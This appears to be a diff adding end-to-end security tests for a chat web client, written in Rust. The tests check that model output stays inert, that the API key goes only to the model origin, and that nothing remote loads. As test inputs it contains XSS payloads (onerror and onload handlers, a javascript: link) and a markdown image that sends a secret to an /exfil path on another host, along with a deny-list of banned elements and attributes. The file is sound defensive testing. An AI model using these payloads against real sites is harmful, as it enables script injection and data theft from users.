@@ -1,0 +1,206 @@
+//! Hostile text, and where a key may go.
+
+use e2e::bed::Bed;
+use e2e::page::{Page, SOON, done};
+use e2e::run::Scenario;
+use e2e::server::Origin;
+use serde_json::{Value, json};
+
+pub const ALL: &[Scenario] = &[
+    Scenario::everywhere("hostile_markup_stays_text", hostile),
+    Scenario::chromium("hostile_text_is_inert_on_every_surface", surfaces),
+    Scenario::chromium("a_key_goes_nowhere_else", key),
+    Scenario::chromium("a_changed_address_asks_for_the_key_again", moved),
+    Scenario::chromium("nothing_remote_is_loaded", nothing_remote),
+];
+
+/// What must not be in a page: elements that run, load or send; handlers; addresses that run; a set global.
+const AUDIT: &str = "
+    const bad = [];
+    if (window.__XSS__ !== undefined) bad.push('ran: ' + window.__XSS__);
+    const banned = 'script,iframe,frame,object,embed,form[action],link,style,base,meta,video,audio,img,image,foreignObject,portal,template,noscript';
+    for (const place of document.querySelectorAll('.prose, .words, .list, #results, h1, .fault, .banner, .notices, .panel')) {
+      for (const one of place.querySelectorAll(banned)) bad.push(one.outerHTML.slice(0, 200));
+      for (const one of place.querySelectorAll('*')) for (const at of one.attributes) {
+        if (/^on/i.test(at.name) || at.name === 'style' || at.name === 'srcdoc' || at.name === 'ping') bad.push(one.localName + ' ' + at.name);
+        if (/^(href|src|action|formaction|xlink:href|data)$/i.test(at.name) && !/^(https?:|mailto:|tel:|#|\\.\\/)/i.test(at.value)) bad.push(at.name + '=' + at.value);
+      }
+    }
+    return bad;";
+
+fn audit(page: &Page, what: &str) {
+    let bad = page.js(AUDIT, &[]);
+    assert_eq!(bad, json!([]), "{what}");
+}
+
+fn hostile(bed: &mut Bed) {
+    let page = bed.page();
+    page.open("");
+    page.connect(&bed.model.base(), "hostile:delay=1", "");
+    page.send("给我看看");
+    page.wait_for_words();
+    // Every state on the way counts, not the last one alone.
+    while page.last().end == "streaming" {
+        audit(&page, "while it streams");
+    }
+    audit(&page, "when it is over");
+    assert_eq!(page.last().end, "complete");
+    assert!(
+        page.has("[data-action=load-image]"),
+        "images are named placeholders"
+    );
+    page.reload();
+    page.wait_for_reply(SOON);
+    audit(&page, "after a reload");
+    for model in ["unicode-tags", "inject-memory"] {
+        page.choose(model);
+        page.ask("再来");
+        audit(&page, model);
+    }
+    assert!(
+        page.has(".prose .mark, .prose mark, .prose [data-mark]"),
+        "hidden characters are marked"
+    );
+    assert!(
+        bed.model.log().leaks().is_empty(),
+        "{:?}",
+        bed.model.log().leaks()
+    );
+}
+
+fn surfaces(bed: &mut Bed) {
+    let page = bed.page();
+    page.open("");
+    page.connect(&bed.model.base(), "echo", "");
+    let host = bed.model.other_host();
+    let texts = [
+        "<img src=x onerror=window.__XSS__=1>".to_owned(),
+        format!("![x](http://{host}/exfil/echo?q=SECRET)"),
+        "[x](javascript:window.__XSS__=2)".to_owned(),
+        "\"><svg onload=window.__XSS__=3>".to_owned(),
+    ];
+    for text in &texts {
+        page.new_chat();
+        page.ask(text);
+        audit(&page, text);
+        page.poke("article[data-role=assistant] [data-action=quote]");
+        page.fill("input#search", &text.chars().take(6).collect::<String>());
+        page.wait("#results .hit");
+        audit(&page, text);
+        page.fill("input#search", " ");
+        page.js("document.querySelector('input#search').value = ''; document.querySelector('input#search').dispatchEvent(new InputEvent('input', { bubbles: true }))", &[]);
+    }
+    for model in ["html-200", "http-403-html"] {
+        page.new_chat();
+        page.choose(model);
+        page.ask("网页");
+        audit(&page, model);
+    }
+    page.reload();
+    audit(&page, "after a reload");
+    assert!(
+        bed.model.log().leaks().is_empty(),
+        "{:?}",
+        bed.model.log().leaks()
+    );
+}
+
+fn key(bed: &mut Bed) {
+    let secret = "sk-e2e-Wandering0123456789";
+    let page = bed.page();
+    page.open("");
+    page.connect(&bed.model.base(), "ok", secret);
+    for model in [
+        "ok",
+        "redirect-cross",
+        "redirect-307",
+        "redirect-302",
+        "redirect-loop",
+        "auth-echo",
+        "hostile",
+    ] {
+        page.new_chat();
+        page.choose(model);
+        page.ask("带着密钥");
+    }
+    for entry in bed.model.log().entries() {
+        let only_header = !entry.path.contains(secret) && !entry.body.contains(secret);
+        assert!(
+            only_header,
+            "the key stands in {} {}",
+            entry.method, entry.path
+        );
+        assert!(
+            entry.origin == Origin::Model || !entry.carries(secret),
+            "the key went to the other origin"
+        );
+    }
+    assert!(
+        bed.model.log().leaks().is_empty(),
+        "nothing at all goes to the other origin"
+    );
+    for store in ["conversations", "messages", "drafts", "connections", "kv"] {
+        let rows = Value::from(page.stored(store)).to_string();
+        assert!(!rows.contains(secret), "the key stands in {store}");
+    }
+    let seen = page.js(
+        "const html = document.documentElement.outerHTML; const entries = JSON.stringify(performance.getEntries()); const local = JSON.stringify({ ...localStorage, ...sessionStorage });\
+         return [html, entries, local, document.title, location.href].some((text) => text.includes(arguments[0]))",
+        &[json!(secret)],
+    );
+    assert_eq!(seen, json!(false), "the key is to be seen in the page");
+    let console = done(page.session.console());
+    assert!(
+        !console.iter().any(|line| line.contains(secret)),
+        "{console:?}"
+    );
+}
+
+fn moved(bed: &mut Bed) {
+    let page = bed.page();
+    page.open("");
+    page.connect(&bed.model.base(), "ok", "sk-e2e-stays");
+    page.go("#/settings/connections");
+    page.click(".connections a.connection:not([href$='/demo'])");
+    let other = format!("http://{}/v1", bed.model.other_host());
+    page.fill("#connection-base", &other);
+    page.wait("form .wrong[role=alert]");
+    assert!(
+        page.text("form .wrong[role=alert]")
+            .contains(&bed.model.other_host()),
+        "the new host is named"
+    );
+    page.click("#connection-fetch");
+    page.click("#connection-save");
+    page.wait_text("#connection-said", &bed.model.other_host());
+    assert!(
+        page.stored("connections")
+            .iter()
+            .all(|row| row["base"] == json!(bed.model.base())),
+        "nothing is saved"
+    );
+    assert!(bed.model.log().leaks().is_empty(), "nothing is sent");
+}
+
+fn nothing_remote(bed: &mut Bed) {
+    let page = bed.page();
+    page.open("");
+    page.ask("给我看看代码、表格和公式");
+    let names = page.js(
+        "return performance.getEntriesByType('resource').map((entry) => entry.name)",
+        &[],
+    );
+    let root = bed.files.root();
+    for name in names
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(Value::as_str)
+    {
+        assert!(
+            name.starts_with(&root) || name.starts_with("data:") || name.starts_with("blob:"),
+            "{name}"
+        );
+    }
+    assert!(bed.model.log().entries().is_empty());
+}
